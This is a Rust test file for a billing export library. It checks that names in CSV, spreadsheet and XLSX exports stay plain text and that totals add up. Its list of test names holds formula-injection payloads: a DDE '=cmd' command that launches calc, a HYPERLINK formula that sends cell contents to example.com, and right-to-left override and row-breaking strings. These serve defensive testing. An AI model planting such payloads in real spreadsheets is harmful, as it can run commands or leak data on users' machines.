//! Text from people who mean harm, in every place where text of others stands.

use std::sync::LazyLock;

use calamine::{Data, Reader};
use exports::Format;
use proptest::prelude::*;
use rust_decimal::Decimal;
use views::model::{BillLineKind, BillView};

use crate::csv_files::{get, records};
use crate::support::{bill, decimal, file, file_for, line};
use crate::workbooks::{Book, book, column, sheet};

/// Names that could run, break out of their cell, or turn the text around.
const NASTY: [&str; 14] = [
    "=HYPERLINK(\"https://example.com?\"&A1,\"Reception\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \u{a0}=1+1",
    "＝1+1",
    "a\",\"=1+1\r\n=2",
    "a;=1+1",
    "\u{202e}txt.exe\u{0}\u{ffff}\u{1f600}漢字\u{301}",
    "_x0041_ <b>&amp;</b> ]]>",
];

fn named(name: &str) -> BillView {
    let mut bill = bill();
    for group in &mut bill.groups {
        group.number.iter_mut().for_each(|number| number.label = name.to_owned());
        group.waba.iter_mut().for_each(|waba| waba.name = name.to_owned());
        group.lines.iter_mut().filter_map(|line| line.market.as_mut()).for_each(|market| *market = name.to_owned());
    }
    for debit in &mut bill.debits {
        debit.number.iter_mut().for_each(|number| number.label = name.to_owned());
        debit.id = format!("{name}{}", debit.id);
    }
    for difference in &mut bill.differences {
        difference.waba.iter_mut().for_each(|waba| waba.name = name.to_owned());
    }
    bill.id = Some(name.to_owned());
    bill
}

fn is_harmless(bill: &BillView, name: &str) {
    let rows = records(&file(bill, Format::Csv), b',');
    assert_eq!(get(&rows[0], "label"), name, "for programs every text is as it is");
    assert_eq!(rows.iter().map(|row| decimal(get(row, "net"))).sum::<Decimal>(), decimal("92.84"));

    for (region, separator) in [("US", b','), ("ES", b';')] {
        let rows = records(&file_for(bill, Format::CsvSpreadsheet, region), separator);
        assert_eq!(rows.len(), 6, "no text made a row of its own");
        for (column, cell) in rows.iter().flatten() {
            let is_number = ["quantity", "unit_rate", "net", "line_no"].contains(&column.as_str());
            let begins = cell.trim_start().chars().next();
            let runs = begins.is_some_and(|c| "=+-@＝＋－＠".contains(c)) || cell.starts_with(['\t', '\r', '\n']);
            assert!(is_number || !runs, "{column}: {cell:?}");
        }
    }

    static OF_A_CALM_BILL: LazyLock<Vec<Formula>> =
        LazyLock::new(|| formulas(&mut book(file(&self::bill(), Format::Xlsx))));
    let mut book = book(file(bill, Format::Xlsx));
    assert_eq!(formulas(&mut book), *OF_A_CALM_BILL, "no text became a formula");
    let label = &column(&sheet(&mut book, "Lines"), "Label")[0];
    assert!(matches!(label, Data::String(_) | Data::Empty), "{label:?}");
    assert!(file(bill, Format::Pdf).starts_with(b"%PDF"));
}

type Formula = (String, usize, usize, String);

/// Every formula of a workbook with its place.
fn formulas(book: &mut Book) -> Vec<Formula> {
    let mut found = Vec::new();
    for sheet in book.sheet_names() {
        let formulas = book.worksheet_formula(&sheet).unwrap();
        found.extend(formulas.used_cells().map(|(row, col, text)| (sheet.clone(), row, col, text.clone())));
    }
    found
}

#[test]
fn names_that_could_run_are_only_text() {
    for name in NASTY {
        is_harmless(&named(name), name);
    }
}

#[test]
fn the_workbook_keeps_a_risky_name_as_it_is() {
    for name in &NASTY[..5] {
        let mut book = book(file(&named(name), Format::Xlsx));
        assert_eq!(column(&sheet(&mut book, "Lines"), "Label")[0], Data::String((*name).to_owned()));
    }
    let mut book = book(file(&named("_x0041_ <b>&amp;</b> ]]>"), Format::Xlsx));
    assert_eq!(column(&sheet(&mut book, "Lines"), "Label")[0], Data::String("_x0041_ <b>&amp;</b> ]]>".to_owned()));
}

#[test]
fn a_name_without_end_ends() {
    let name = "=Ж".repeat(20_000);
    is_harmless(&named(&name), &name);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    #[test]
    fn no_name_whatever_does_more_than_stand_there(name in "[=+\\-@\t\r\n'\";, ]?\\PC{0,24}") {
        is_harmless(&named(&name), &name);
    }

    #[test]
    fn not_even_one_of_any_code_points(name in any::<String>()) {
        is_harmless(&named(&name), &name);
    }

    #[test]
    fn every_format_comes_to_the_total_whatever_the_lines_say(
        micros in prop::collection::vec(-9_000_000_000_i64..9_000_000_000, 0..30),
        total in -1_000_000_000_i64..1_000_000_000,
    ) {
        let mut bill = bill();
        let amounts = micros.iter().map(|micros| Decimal::new(*micros, 6).to_string());
        bill.groups[0].lines = amounts.map(|amount| line(BillLineKind::Dialogue, 7, None, &amount)).collect();
        bill.costs.total.amount.amount = Decimal::new(total, 2);
        let rows = records(&file(&bill, Format::Csv), b',');
        let sum: Decimal = rows.iter().map(|row| decimal(get(row, "net"))).sum();
        prop_assert_eq!(sum, Decimal::new(total, 2));

        let mut book = book(file(&bill, Format::Xlsx));
        for (name, of) in [("Lines", "Net"), ("By number", "Total")] {
            let cell = column(&sheet(&mut book, name), of).pop().unwrap();
            let Data::Float(shown) = cell else { panic!("{cell:?}") };
            prop_assert_eq!(format!("{shown:.2}"), format!("{:.2}", Decimal::new(total, 2)), "{}", name);
        }
    }
}
